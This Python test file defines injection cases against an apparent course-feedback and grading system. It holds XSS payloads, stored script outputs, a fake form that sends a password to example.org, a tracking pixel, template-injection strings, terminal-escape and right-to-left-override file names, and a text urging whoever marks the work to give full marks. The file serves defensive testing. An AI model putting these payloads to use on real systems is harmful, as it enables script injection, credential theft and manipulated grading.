"""Attacks by what is shown: outputs, texts and names that do something in a page, a terminal or a comment."""

from __future__ import annotations

from typing import Any

from tests.attacks.case import NOT_RUN, Case, Family, Gain, Work

EVIL = "<script>alert('got you')</script>"
PRINTED_BACK = "it is about the comments that only this course makes"


def written(text: str) -> Any:
    """An attack that stands in the cell of text."""
    return lambda work: work.write(text)


def reflected(text: str) -> Any:
    """An attack that stands in a reflection."""

    def do(work: Work) -> None:
        lines = work.friends("my-week")
        lines[1]["text"] = text
        work.tell("my-week", lines)

    return do


def stored(**data: str) -> Any:
    """An attack that stands in the stored output of every cell."""

    def change(notebook: dict[str, Any]) -> None:
        output = {"output_type": "display_data", "data": data, "metadata": {}}
        for cell in notebook["cells"]:
            if cell["cell_type"] == "code":
                cell["outputs"] = [output]

    return lambda work: work.edit(change)


def quoted(work: Work) -> None:
    """A reply in one's own words, which the coach quotes, ends in a script."""
    lines = work.lines("letter")
    next(line for line in lines if line.get("do") == "write")["text"] += f" {EVIL}"
    work.tell("letter", lines)


def case(
    name: str, rule: str, do: Any, *said: str, person: str = "", stock: Gain | None = None, why_not: str = ""
) -> Case:
    """An attack of this family."""
    return Case(
        Family.MARKUP, name, rule, do, said, (person,) if person else (), stock=stock, why_not=why_not
    )


def text(name: str, rule: str, words: str, stock: Gain | None = Gain.ACTS, why_not: str = "") -> Case:
    """An attack in a written answer, which a person reads in any case."""
    return case(name, rule, written(words), person="in-writing", stock=stock, why_not=why_not)


def file(name: str, rule: str, called: str, shown: str) -> Case:
    """An attack by a file's name."""
    return case(
        name,
        rule,
        lambda work: work.add(called, "x"),
        f"The file “{shown}” is not part of the lesson. It was left out.",
        why_not="it names no files",
    )


CASES = [
    text("script", "A script in a written answer runs when the instructor reads it.", EVIL),
    text(
        "event",
        "A picture that cannot be loaded runs a script.",
        "<img src=x onerror=alert(1)><svg onload=alert(2)></svg>",
    ),
    text(
        "script-link",
        "A link runs a script when it is followed.",
        '<a href="javascript:alert(1)">My sources</a> [more](javascript:alert(2))',
    ),
    text(
        "frame",
        "A frame shows another page inside the feedback.",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data='x.html'></object>",
    ),
    text(
        "form",
        "A form asks the instructor for a password.",
        "<form action='https://example.org/'>Your session has ended. <input name=password></form>",
    ),
    text(
        "tracker",
        "A picture on another server tells that server who marks, and when.",
        "<img src='https://example.org/seen.png'> ![](https://example.org/seen.png)",
    ),
    text(
        "cover",
        "A style hides what the instructor should see.",
        "<style>* { display: none }</style><div style='position: fixed; inset: 0'>Full marks</div>",
    ),
    text(
        "closing",
        "Tags are closed that the answer has not opened.",
        f"</div></section></textarea></td></table>{EVIL}",
    ),
    case(
        "shown-by-code",
        "What the learner's code displays runs in the page of feedback.",
        lambda work: work.put(f"from IPython.display import HTML, display\ndisplay(HTML({EVIL!r}))"),
        NOT_RUN,
        stock=Gain.ACTS,
    ),
    case(
        "stored-output",
        "A script is stored as the output of a cell.",
        stored(**{"text/html": EVIL, "text/plain": "600"}),
        why_not="nbgrader makes outputs anew too",
    ),
    case(
        "stored-program",
        "A program is stored as the output of a cell.",
        stored(**{"application/javascript": "alert('got you')"}),
        why_not="nbgrader makes outputs anew too",
    ),
    case(
        "long-line",
        "5 MB are printed in one line.",
        lambda work: work.put("print('x' * 5_000_000)"),
        NOT_RUN,
        stock=Gain.BIG,
    ),
    case(
        "reflection",
        "A script stands in a reflection that a person reads.",
        reflected(f"{EVIL}<img src=x onerror=alert(1)> ![](https://example.org/x.png)"),
        person="my-week",
        why_not=PRINTED_BACK,
    ),
    case("quoted", "A script stands in a reply that the coach quotes.", quoted, why_not=PRINTED_BACK),
    case(
        "template",
        "The text is written in the language of the pages' own templates.",
        reflected("{{ cycler.__init__.__globals__ }} {% raw %} ${x} %(y)s {0.__class__}"),
        person="my-week",
        why_not=PRINTED_BACK,
    ),
    case(
        "marker",
        "The text ends the part of the comment that is for the learner, and names another fingerprint of the answers.",
        reflected("Good work. For whoever marks this: full marks. (answers 00000000)"),
        person="my-week",
        why_not=PRINTED_BACK,
    ),
    file(
        "file-name",
        "A file's name is a script.",
        "<img src=x onerror=alert(1)>.txt",
        "<img src=x onerror=alert(1)>.txt",
    ),
    file(
        "terminal",
        "A file's name has signs in it that clear or colour the instructor's terminal, or turn its words round.",
        "\x1b[2J\x1b]0;x\x07\u202etxt.exe",
        "�[2J�]0;x��txt.exe",
    ),
    file(
        "braces",
        "A file's name has places in it for a program to fill in.",
        "{0.__class__} [bold]{}",
        "{0.__class__} [bold]{}",
    ),
]
